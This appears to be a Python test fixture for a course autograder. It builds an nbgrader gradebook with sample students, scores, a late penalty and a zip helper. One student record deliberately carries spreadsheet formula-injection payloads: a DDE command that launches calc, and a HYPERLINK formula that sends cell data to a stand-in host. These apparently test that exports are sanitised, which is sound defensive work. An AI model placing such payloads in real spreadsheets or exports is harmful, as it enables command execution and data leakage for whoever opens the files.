"""Grades and archives for these tests."""

from __future__ import annotations

import zipfile
from collections.abc import Mapping
from datetime import datetime
from pathlib import Path

from nbgrader.api import Gradebook
from support import ASSIGNMENT, copy_released, gradebook

from autograder.course import Course

EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'
QUOTED = 'O\'Neil, "Ann"\nMarie'


def graded_course(root: Path) -> Course:
    """Four students: all marked and late; an answer to be marked; nothing handed in; odd names."""
    copy_released(root)
    with gradebook(root) as book:
        book.update_or_create_student(
            "anna", first_name="Anna", last_name="Müller", email="anna@x.example", lms_user_id="11"
        )
        book.update_or_create_student("bob", email="bob@x.example", lms_user_id="12")
        book.update_or_create_student("carl", email="carl@x.example", lms_user_id="13")
        book.update_or_create_student(
            "=cmd|' /C calc'!A1",
            first_name=EVIL,
            last_name=QUOTED,
            email="@SUM(1+1)",
            lms_user_id="+49",
        )
        hand_in(book, "anna", a=2.0, b=1.0, why=2.5)
        hand_in(book, "bob", a=0.1, b=0.2, why=None)
        hand_in(book, "=cmd|' /C calc'!A1", a=2.0, b=0.0, why=3.0)
        book.find_comment("why", "one", ASSIGNMENT, "anna").manual_comment = "=well\nseen; -1"
        book.find_submission(ASSIGNMENT, "anna").timestamp = datetime(2026, 1, 31, 14)
        late = book.find_submission_notebook("two", ASSIGNMENT, "anna")
        late.late_submission_penalty = 0.5
        book.db.commit()
    return Course(root)


def hand_in(book: Gradebook, student: str, a: float, b: float, why: float | None) -> None:
    """A hand-in of the small course with these scores; None: still to be marked."""
    book.add_submission(ASSIGNMENT, student)
    for notebook, grade_id, score in (("one", "test_a", a), ("two", "test_b", b)):
        grade = book.find_grade(grade_id, notebook, ASSIGNMENT, student)
        grade.auto_score, grade.needs_manual_grade = score, False
    marked = book.find_grade("why", "one", ASSIGNMENT, student)
    marked.manual_score, marked.needs_manual_grade = why, why is None


def zipped(path: Path, files: Mapping[str, bytes | str]) -> Path:
    """An archive of these files."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path
